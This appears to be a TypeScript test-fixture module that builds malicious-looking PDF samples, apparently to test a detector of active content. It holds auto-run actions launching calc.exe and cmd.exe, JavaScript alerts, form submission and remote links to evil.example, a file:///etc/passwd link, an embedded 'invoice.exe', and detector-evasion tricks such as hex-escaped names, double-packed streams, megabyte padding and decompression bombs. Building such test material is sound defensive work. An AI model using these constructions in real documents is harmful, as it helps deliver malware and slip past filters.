import { readFile } from "node:fs/promises"
import { join } from "node:path"
import { deflateSync } from "node:zlib"
import { PDFDocument, PDFName, PDFString } from "pdf-lib"
import { createPdf } from "../documents.ts"
import type { Sample } from "./documents.ts"
import { xrefRow } from "./pdf-writer.ts"
import { oneOf, randomFrom } from "./random.ts"

/** A PDF that every viewer opens, with something in its catalogue and further objects, the first of them number 4. */
export function pdfWith(catalogue: string, objects: string | Buffer, trailer = ""): Buffer {
	const body = Buffer.concat([
		latin1(`%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R${catalogue}>> endobj\n`),
		latin1("2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"),
		latin1("3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>> endobj\n"),
		Buffer.from(objects),
		latin1("\n"),
	])
	const offsets = [...body.toString("latin1").matchAll(/(?<=\n)(\d+) 0 obj/g)].map(({ index }) => index)
	const lines = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`)
	const size = offsets.length + 1
	const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines.join("")}`
	return Buffer.concat([
		body,
		latin1(`${table}trailer <</Root 1 0 R/Size ${size}${trailer}>>\nstartxref\n${body.length}\n%%EOF`),
	])
}

const latin1 = (text: string) => Buffer.from(text, "latin1")

const createOpenActionPdf = (action: string) =>
	pdfWith("/OpenAction 4 0 R", `4 0 obj <</Type/Action${action}>> endobj`)

/** Writes some letters of every name as numbers, as the format allows. */
function spelledInNumbers(text: string, random: () => number): string {
	return text.replace(/(?<=\/\w*)\w(?=\w*)/g, (letter) => {
		const hex = letter.charCodeAt(0).toString(16)
		return random() < 0.5 ? letter : `#${random() < 0.5 ? hex : hex.toUpperCase()}`
	})
}

const ACTIONS = [
	"/S 5 0 R/F(calc.exe)>> endobj\n5 0 obj /Launch endobj\n6 0 obj <<",
	"/S 5 0 R/JS(x)>> endobj\n5 0 obj /JavaScript endobj\n6 0 obj <<",
	"/S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]",
	"/S/SubmitForm/F<</FS/URL/F(https://evil.example)>>",
	"/S/URI/URI(https://evil.example)",
	"/S/GoTo/D[3 0 R/Fit]/Next 5 0 R>> endobj\n5 0 obj <</S/URI/URI(https://evil.example)>> endobj\n6 0 obj <<",
	"/S/JavaScript/JS(app.alert(1))",
	"/S /JavaScript /JS 5 0 R",
	"/S%\n/JavaScript/JS<6170702e616c6572742831293b>",
	"/S\0/Launch/F(calc.exe)",
	"/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>",
	"/S/Rendition/OP 0/JS(app.alert(1))",
	"/S/GoToE/T<</R/C/N(evil.pdf)>>",
	"/S/Thread/F(evil.pdf)/D 0",
	"/S/RichMediaExecute/TA 3 0 R/CMD<</C(play)>>",
	"/S/ImportData/F(a.fdf)",
	"/Next<</S/JavaScript/JS(x)>>/S/URI/URI(https://x.example)",
]

const annotation = (kind: string) => pdfWith("", `4 0 obj <</Type/Annot/Subtype/${kind}>> endobj`)
const address = "4 0 obj <</S/URI/URI(https://evil.example)>> endobj"

/** Object 5 in a packed stream, in all the ways one can be written, found as every reader finds it. */
function createPackedPdf(
	object: string,
	{ entries = "/Filter/FlateDecode", type = "/Type/ObjStm", pack = packedOnce } = {},
): Buffer {
	const first = "5 0 "
	const content = pack(latin1(first + object))
	const body = Buffer.concat([
		latin1("%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>> endobj\n"),
		latin1("2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"),
		latin1("3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>> endobj\n"),
		latin1(`4 0 obj <<${type}/N 1/First ${first.length}/Length ${content.length}${entries}>>stream\r\n`),
		content,
		latin1("\nendstream endobj\n"),
	])
	const offset = (number: number) => body.indexOf(`\n${number} 0 obj`, 0, "latin1") + 1
	const places = [
		[0, 0, 65535],
		...[1, 2, 3, 4].map((one) => [1, offset(one), 0]),
		[2, 4, 0],
		[1, body.length, 0],
	]
	const table = Buffer.concat(places.map(([kind = 0, at = 0, nth = 0]) => xrefRow(kind, at, nth)))
	return Buffer.concat([
		body,
		latin1(`6 0 obj <</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length ${table.length}>>stream\r\n`),
		table,
		latin1(`\nendstream endobj\nstartxref\n${body.length}\n%%EOF`),
	])
}

const script = "<</S/JavaScript/JS(app.alert(1))>>"
const packedOnce = (data: Buffer): Buffer => deflateSync(data)
const hexEncode = (data: Buffer) => Buffer.from(deflateSync(data).toString("hex"))
const packTwice = (data: Buffer) => deflateSync(deflateSync(data))
const padding = (length: number) => Buffer.alloc(length, " ")
const behindMegabytes = (data: Buffer) =>
	deflateSync(Buffer.concat([data.subarray(0, 4), padding(9_000_000), data.subarray(4)]))

async function attached(): Promise<Buffer> {
	const document = await PDFDocument.load(await createPdf(), { updateMetadata: false })
	await document.attach(Buffer.from("MZ"), "invoice.exe")
	return Buffer.from(await document.save({ useObjectStreams: false }))
}

async function withScript(useObjectStreams: boolean): Promise<Buffer> {
	const document = await PDFDocument.load(await createPdf(), { updateMetadata: false })
	document.addJavaScript("greet", "app.alert('Karibu')")
	return Buffer.from(await document.save({ useObjectStreams }))
}

async function withForm(): Promise<Buffer> {
	const document = await PDFDocument.load(await createPdf(), { updateMetadata: false })
	document.getForm().acroForm.dict.set(PDFName.of("XFA"), document.context.obj([PDFString.of("template")]))
	return Buffer.from(await document.save({ useObjectStreams: true }))
}

/** PDFs that run, start, carry or hide something. */
export async function activePdfs(seed: number): Promise<Sample[]> {
	const random = randomFrom(seed)
	const plain = ACTIONS.map((action, nth) => ({
		what: `PDF with action ${nth}`,
		content: createOpenActionPdf(action),
	}))
	const spelled = Array.from({ length: 40 }, (_, nth) => ({
		what: `PDF with an action spelled in numbers, ${nth}`,
		content: createOpenActionPdf(spelledInNumbers(oneOf(random, ACTIONS), random)),
	}))
	const hidden: [string, Buffer | Promise<Buffer>][] = [
		["a script by a library", withScript(false)],
		["a script by a library, packed", withScript(true)],
		["a form that brings scripts", withForm()],
		["a program in it", attached()],
		[
			"names that lead to scripts",
			pdfWith("/Names<</JavaScript 4 0 R>>", "4 0 obj <</Names[(a) 5 0 R]>> endobj"),
		],
		["files in it, by an indirect name", pdfWith("/X 1/EmbeddedFiles 4 0 R", "4 0 obj <</Names[]>> endobj")],
		[
			"a file behind a comment",
			pdfWith("/X 4 0 R", "4 0 obj <</Type/Filespec/F(a)/EF%\n<</F 5 0 R>>>> endobj"),
		],
		[
			"a link to a file of this machine",
			pdfWith("/X 4 0 R", "4 0 obj <</S/URI/URI(file:///etc/passwd)>> endobj"),
		],
		[
			"a script in hexadecimal packing",
			createPackedPdf(script, { pack: hexEncode, entries: "/Filter[/ASCIIHexDecode/FlateDecode]" }),
		],
		["files in it", pdfWith("/Names<</EmbeddedFiles 4 0 R>>", "4 0 obj <</F(a)/EF<</F 5 0 R>>>> endobj")],
		["an attachment", pdfWith("", "4 0 obj <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj")],
		["a film that runs", annotation("RichMedia")],
		["a film", annotation("Movie")],
		["a screen", annotation("Screen")],
		["a body to turn", annotation("3D")],
		["a file pinned to a page", annotation("FileAttachment")],
		["an address that opens with a page", pdfWith("/AA<</WC 4 0 R>>", address)],
		[
			"an address after a chain of actions",
			pdfWith("/X<</AA<</O<</S/GoTo/Next[<</S/GoTo/Next 4 0 R>>]>>>>>>", address),
		],
		["what stands in another file", pdfWith("", "4 0 obj <</F(a)/FFilter/FlateDecode/Length 0>> endobj")],
		["a packed script", createPackedPdf(script)],
		["a packed script spelled in numbers", createPackedPdf(spelledInNumbers(script, random))],
		["a script packed under no name", createPackedPdf(script, { type: "" })],
		["a script packed under a spelled name", createPackedPdf(script, { type: "/Type/Obj#53tm" })],
		[
			"a script packed twice",
			createPackedPdf(script, { pack: packTwice, entries: "/Filter[/FlateDecode/FlateDecode]" }),
		],
		[
			"a script packed and encoded",
			createPackedPdf(script, { pack: hexEncode, entries: "/Filter[/AHx/FlateDecode]" }),
		],
		["a script behind megabytes of blanks", createPackedPdf(script, { pack: behindMegabytes })],
		[
			"a script packed far from its name",
			createPackedPdf(script, { entries: `/Filter/FlateDecode${" ".repeat(9_000)}` }),
		],
		[
			"a packed script and a false beginning",
			createPackedPdf(script, { entries: "/Filter/FlateDecode%stream\n" }),
		],
		[
			"packed objects that are a bomb",
			createPackedPdf("", { pack: () => deflateSync(Buffer.alloc(80_000_000)) }),
		],
		["nothing but packed objects", Buffer.from(`%PDF-1.7${"/ObjStm ".repeat(100_000)}startxref %%EOF`)],
	]
	const made = hidden.map(async ([what, content]) => ({ what: `PDF with ${what}`, content: await content }))
	return [...plain, ...spelled, ...(await Promise.all(made))].map((one) => ({ ...one, name: "form.pdf" }))
}

/** PDFs that nobody can look into without their password. */
export async function lockedPdfs(): Promise<Sample[]> {
	const names = ["user-password.pdf", "user-password-128.pdf"]
	return Promise.all(
		names.map(async (name) => ({ what: `PDF locked, ${name}`, name, content: await readStoredPdf(name) })),
	)
}

/** Made by another program than ours, and kept as a file. */
export const readStoredPdf = (name: string): Promise<Buffer> =>
	readFile(join(import.meta.dirname, "pdf", name))
